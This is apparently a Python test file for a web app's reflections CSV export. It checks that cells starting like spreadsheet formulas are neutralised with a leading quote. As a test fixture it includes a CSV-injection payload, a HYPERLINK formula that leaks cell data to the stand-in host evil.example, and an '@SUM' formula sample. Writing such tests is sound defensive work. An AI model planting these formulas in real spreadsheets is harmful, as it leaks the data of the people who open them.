"""A leader's reflections CSV is safe to open in a spreadsheet: every cell that a spreadsheet
would run as a formula (it starts with =, +, -, @, a tab or a carriage return) goes through
the one neutraliser the results downloads use (``core.spreadsheets.neutralise``)."""

from __future__ import annotations

import csv
import io

import pytest

from partnerlens.core.spreadsheets import FORMULA_STARTS
from partnerlens.enquiries.models import Reflection

ATTACK = 'HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def rows(client) -> list[list[str]]:
    response = client.get("/enquiries/reflections/mine.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
def test_a_reflection_that_starts_like_a_formula_is_exported_as_text(
    start, client, cluster, make_cycle
):
    cycle = make_cycle()
    prompt = cycle.framework_version.reflection_prompts.get()
    # Stored directly: the page strips leading tabs and line breaks, an import might not.
    Reflection.objects.create(
        user=cluster["lead_a"], prompt=prompt, cycle=cycle, text=start + ATTACK
    )
    client.force_login(cluster["lead_a"])
    header, row = rows(client)
    assert header[4] == "reflection"
    assert row[4] == "'" + start + ATTACK
    assert row[3] == prompt.text  # an ordinary cell is left as it is


def test_a_formula_typed_on_the_reflection_page_is_neutralised_in_the_csv(
    client, cluster, make_cycle
):
    cycle = make_cycle()
    prompt = cycle.framework_version.reflection_prompts.get()
    client.force_login(cluster["lead_a"])
    saved = client.post(
        f"/enquiries/cycles/{cycle.pk}/reflection/", {f"prompt-{prompt.pk}": "@SUM(1+1)*cmd"}
    )
    assert saved.status_code == 302
    _header, row = rows(client)
    assert row[4] == "'@SUM(1+1)*cmd"
    text = client.get("/enquiries/reflections/mine.txt").content.decode()
    assert "@SUM(1+1)*cmd" in text  # plain text is not a spreadsheet: left as typed
